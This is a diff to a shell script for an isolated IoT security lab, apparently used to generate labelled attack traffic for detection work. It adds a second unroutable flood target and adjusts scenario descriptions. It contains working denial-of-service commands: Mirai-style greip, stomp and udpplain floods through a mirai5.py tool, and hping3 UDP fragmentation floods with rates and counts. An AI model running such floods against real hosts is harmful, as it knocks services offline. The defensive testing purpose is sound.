@@ -12,10 +12,11 @@
 # through AF_PACKET to a MAC given on its command line) where it cannot.
 # Mix them into any scenario with --attacks.
 
-# The outside address the bot floods: TEST-NET-3, never routed. Frames go to
+# The outside addresses the bot floods (TEST-NET-3 and -2, never routed; two,
+# so that two floods in one run are two incidents). Frames go to
 # the gateway's MAC (as a device's traffic to the internet does); the lab has
 # no route out, so the gateway drops them.
-BOT_TARGET=203.0.113.50
+BOT_TARGET=203.0.113.50 BOT_TARGET2=198.51.100.20
 
 attack_mirai_greip() {
     labelled mirai-greip dos "${IP[atk]}" "${IP[cam]}" "" mirai5.py \
@@ -43,7 +44,7 @@ attack_mirai_vse() {
 
 attack_mirai_stomp() {
     labelled mirai-stomp dos "${IP[atk]}" "${IP[cam]}" 80 mirai5.py \
-        "Mirai stomp: connect() to the camera's web port, then ACK+PSH segments with 768 random bytes into that connection (sequence +1 each), 2 000/s for 3 s" atk 120 -- \
+        "Mirai stomp: connect() to the camera's web port, then ACK+PSH segments with 768 random bytes on that connection (Mirai's byte-swapped sequence numbers), 2 000/s for 3 s" atk 120 -- \
         python3 "$LAB/py/mirai5.py" stomp --dst "${IP[cam]}" --dst-mac "${MAC[cam]}" --port 80 --size 768 --rate 2000 --count 6000
 }
 
@@ -56,9 +57,9 @@ attack_ack_fragmentation() {
 }
 
 attack_udp_fragmentation() {
-    labelled udp-fragmentation dos "${IP[atk]}" "${IP[plug]}" 9999 hping3 \
+    labelled udp-fragmentation dos "${IP[atk]}" "${IP[phone]}" 9999 hping3 \
         "UDP fragmentation flood: 1 200-byte datagrams in 300-byte IP fragments (hping3 --udp -d 1200 -m 300), 800/s for 4 s" atk 120 -- \
-        hping3 -q --udp -p 9999 -d 1200 -m 300 -c 3200 -i u1250 "${IP[plug]}"
+        hping3 -q --udp -p 9999 -d 1200 -m 300 -c 3200 -i u1250 "${IP[phone]}"
 }
 
 attack_icmp_fragmentation() {
@@ -94,7 +95,7 @@ attack_bot_greip_out() {
 }
 
 attack_bot_udpplain_out() {
-    labelled bot-udpplain-out dos "${IP[dvr]}" "$BOT_TARGET" "" mirai5.py \
+    labelled bot-udpplain-out dos "${IP[dvr]}" "$BOT_TARGET2" "" mirai5.py \
         "Mirai udpplain from the compromised DVR at an outside address: one flow, random 512-byte payloads, 1 500/s for 4 s" dvr 120 -- \
-        python3 "$LAB/py/mirai5.py" udpplain --dst "$BOT_TARGET" --dst-mac "${MAC[gw]}" --rate 1500 --count 6000 --seed 9
+        python3 "$LAB/py/mirai5.py" udpplain --dst "$BOT_TARGET2" --dst-mac "${MAC[gw]}" --rate 1500 --count 6000 --seed 9
 }
